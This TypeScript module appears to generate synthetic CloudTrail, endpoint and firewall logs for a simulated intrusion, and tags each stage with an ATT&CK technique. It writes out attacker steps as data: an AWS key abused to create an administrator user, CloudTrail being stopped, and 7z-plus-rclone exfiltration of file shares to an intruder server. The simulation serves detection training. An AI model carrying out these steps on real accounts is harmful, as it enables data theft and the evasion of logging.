import { minute, second } from './calendar.ts';
import { accessKeyId, awsRow, userIdentity, type AwsCall } from './cloud.ts';
import { connectionRow, fileEventRow, processRow, run, type Program, type Runner } from './endpoint-rows.ts';
import { newPid } from './endpoint.ts';
import { flowRow } from './network.ts';
import { onWindows } from './programs.ts';
import { logonFrom, rogue } from './story-hands.ts';
import type { Telling } from './story.ts';
import { awsAccount, headquarters, intruder } from './world.ts';

/** What it was for: keys of the cloud, and the file server's contents. */
export function takeOut(telling: Telling): void {
  cloudKeys(telling);
  exfiltration(telling);
}

/** The access key of the deploy account lay in a file on app01. */
function cloudKeys({ sink, rng, evening, step }: Telling): void {
  const at = evening + 95 * minute;
  const identity = userIdentity('svc-deploy');
  const persona = 'svc-metrics';
  const call = (offset: number, source: string, name: string, readOnly: boolean, extra: Partial<AwsCall> = {}) =>
    sink.row(
      'AWSCloudTrail',
      at + offset * second,
      awsRow(
        {
          source,
          name,
          readOnly,
          ip: intruder.controlIp,
          agent: 'aws-cli/2.17.0 Python/3.11.8 Linux/6.6',
          identity,
          ...extra,
        },
        rng,
      ),
    );
  call(0, 'sts.amazonaws.com', 'GetCallerIdentity', true);
  call(20, 'iam.amazonaws.com', 'ListUsers', true);
  call(45, 'iam.amazonaws.com', 'ListAttachedUserPolicies', true, { request: { userName: 'svc-deploy' } });
  call(80, 'secretsmanager.amazonaws.com', 'ListSecrets', true, {
    error: ['AccessDenied', 'User is not authorized to perform: secretsmanager:ListSecrets'],
  });
  call(130, 'iam.amazonaws.com', 'CreateUser', false, {
    request: { userName: persona },
    response: { user: { userName: persona, arn: `arn:aws:iam::${awsAccount}:user/${persona}` } },
  });
  call(150, 'iam.amazonaws.com', 'AttachUserPolicy', false, {
    request: { userName: persona, policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
  });
  call(170, 'iam.amazonaws.com', 'CreateAccessKey', false, {
    request: { userName: persona },
    response: { accessKey: { userName: persona, accessKeyId: accessKeyId(persona), status: 'Active' } },
  });
  call(260, 'cloudtrail.amazonaws.com', 'StopLogging', false, {
    identity: userIdentity(persona),
    request: { name: 'contoso-trail' },
  });
  step(at + 170 * second, {
    stage: 'aws-key',
    tactic: 'Persistence',
    technique: 'T1098.001',
    description: 'With a stolen key a new AWS user with administrator rights is made, with a key of its own',
    entities: { accounts: ['svc-deploy', persona], ips: [intruder.controlIp] },
    tables: ['AWSCloudTrail'],
  });
  step(at + 260 * second, {
    stage: 'aws-trail-stopped',
    tactic: 'Defense Evasion',
    technique: 'T1562.008',
    description: 'CloudTrail is stopped',
    entities: { accounts: [persona], ips: [intruder.controlIp] },
    tables: ['AWSCloudTrail'],
  });
}

const archiver: Program = { file: '7z.exe', folder: 'C:\\ProgramData\\kq', company: 'Igor Pavlov', product: '7-Zip' };
const copier: Program = { file: 'rclone.exe', folder: 'C:\\ProgramData\\kq', product: 'Rclone' };

function exfiltration(telling: Telling): void {
  const { estate, sink, rng, evening, step } = telling;
  const at = evening + 118 * minute;
  const [files, app] = [estate.server('fs01'), estate.server('app01')];
  const who: Runner = { ...rogue, objectId: '' };
  logonFrom(telling, files, at - minute, { ...rogue, logonId: '0x51bb07' }, app.ip);
  const shell = run(onWindows.cmd, 'cmd.exe', newPid(rng), at - minute, 'High');
  const pack = run(
    archiver,
    '7z.exe a -pKq7!x -mhe -v500m C:\\ProgramData\\kq\\f.7z D:\\Shares\\Finance D:\\Shares\\Legal',
    newPid(rng),
    at,
    'High',
  );
  const copy = run(
    copier,
    'rclone.exe copy C:\\ProgramData\\kq remote:in --include *.7z.* --transfers 8',
    newPid(rng),
    at + 25 * minute,
    'High',
  );
  sink.row('DeviceProcessEvents', at, processRow(files, pack, shell, who, rng));
  for (let n = 1; n <= 10; n++)
    sink.row(
      'DeviceFileEvents',
      at + n * 2 * minute,
      fileEventRow(
        files,
        { name: `f.7z.${String(n).padStart(3, '0')}`, folder: 'C:\\ProgramData\\kq' },
        pack,
        who,
        rng,
      ),
    );
  sink.row('DeviceProcessEvents', copy.startedAt, processRow(files, copy, shell, who, rng));
  for (let n = 0; n < 10; n++) {
    const time = copy.startedAt + n * 3 * minute;
    sink.row(
      'DeviceNetworkEvents',
      time,
      connectionRow(
        files,
        { localIp: files.ip, remoteIp: intruder.controlIp, remotePort: 443, url: intruder.controlHost },
        copy,
        who,
        rng,
      ),
    );
    sink.row(
      'CommonSecurityLog',
      time + 170 * second,
      flowRow(
        {
          office: headquarters,
          from: files.ip,
          to: intruder.controlIp,
          port: 443,
          app: 'ssl',
          host: intruder.controlHost,
          sent: 500_000_000 + rng.int(0, 9_000_000),
          received: rng.int(300_000, 900_000),
          allowed: true,
        },
        rng,
      ),
    );
  }
  step(copy.startedAt, {
    stage: 'exfiltration',
    tactic: 'Exfiltration',
    technique: 'T1048.002',
    description: 'The shares of Finance and Legal are packed and 5 GB leave for the intruder’s server',
    entities: { accounts: [rogue.upn], devices: [files.name], ips: [intruder.controlIp] },
    tables: ['DeviceProcessEvents', 'DeviceFileEvents', 'DeviceNetworkEvents', 'CommonSecurityLog'],
  });
}
